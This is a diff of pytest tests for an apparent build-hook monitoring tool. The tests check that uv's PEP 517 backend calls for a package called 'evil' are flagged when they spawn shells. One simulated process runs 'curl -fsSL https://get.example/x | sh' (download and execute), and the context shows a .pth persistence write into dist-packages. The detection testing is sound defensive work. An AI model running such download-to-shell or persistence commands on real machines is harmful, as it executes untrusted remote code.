@@ -105,3 +105,56 @@ def test_a_pth_file_counts_only_in_a_directory_python_reads_at_start_up(build: B
     hook.write("/usr/lib/python3/dist-packages/evil.pth")
     messages = [finding.message for finding in found(build.judge(), "persistence-write")]
     assert len(messages) == 2 and all("site-packages" in m or "dist-packages" in m for m in messages), messages
+
+
+# -- uv's PEP 517 builds ---------------------------------------------------------------------
+
+UV_GET_REQUIRES = """import sys
+
+if sys.path[0] == "":
+    sys.path.pop(0)
+
+sys.path = [] + sys.path
+
+from setuptools.build_meta import __legacy__ as backend
+import json
+
+get_requires_for_build = getattr(backend, "get_requires_for_build_wheel", None)
+if get_requires_for_build:
+    requires = get_requires_for_build({})
+"""
+UV_BUILD_WHEEL = """import flit_core.buildapi as backend
+
+wheel_filename = backend.build_wheel("/home/ci/.cache/uv/builds-v0/.tmpQ/w", {}, None)
+"""
+
+
+@pytest.mark.parametrize(
+    ("code", "hook_name", "cwd", "package"),
+    [
+        (UV_GET_REQUIRES, "get_requires_for_build_wheel", "/home/ci/.cache/uv/sdists-v9/pypi/evil/1.0.0/a1/src", {}),
+        (UV_BUILD_WHEEL, "build_wheel", "/home/ci/.cache/uv/sdists-v9/index/9f8e/evil/1.0.0/b2/src", {}),
+        (UV_BUILD_WHEEL, "build_wheel", "/work/app/vendor/evil", {"name": "evil", "version": "1.0.0"}),
+    ],
+    ids=["get-requires-named-by-the-cache-path", "build-wheel-other-index", "build-wheel-named-by-pkg-info"],
+)
+def test_uv_runs_each_pep517_hook_as_inline_code_and_it_is_a_pip_hook(
+    build: Build, code: str, hook_name: str, cwd: str, package: dict[str, str]
+) -> None:
+    uv = build.root.spawn(["uv", "pip", "install", "evil"])
+    backend = uv.spawn(["/home/ci/.cache/uv/builds-v0/.tmpQ/bin/python", "-c", code], cwd=cwd, package=package)
+    # setup.py piping a download into sh, from inside the backend
+    shell = backend.spawn(["/bin/sh", "-c", "curl -fsSL https://get.example/x | sh"])
+    shell.spawn(["curl", "-fsSL", "https://get.example/x"], stdout="pipe:[9]")
+    shell.spawn(["sh"], stdin="pipe:[9]")
+    verdict = build.judge()
+    assert verdict.hooks == 1
+    finding = only(verdict, "hook-shell")
+    assert (finding.ecosystem, finding.package, finding.hook) == ("pip", "evil@1.0.0", hook_name)
+
+
+def test_inline_python_under_uv_that_imports_no_backend_is_no_hook(build: Build) -> None:
+    uv = build.root.spawn(["uv", "pip", "install", "evil"])
+    uv.spawn(["/usr/bin/python3", "-c", "import sys; print(sys.version)"])
+    uv.spawn(["/usr/bin/python3", "-c", "import json as backend; backend.dumps(1)"])
+    assert build.judge().hooks == 0
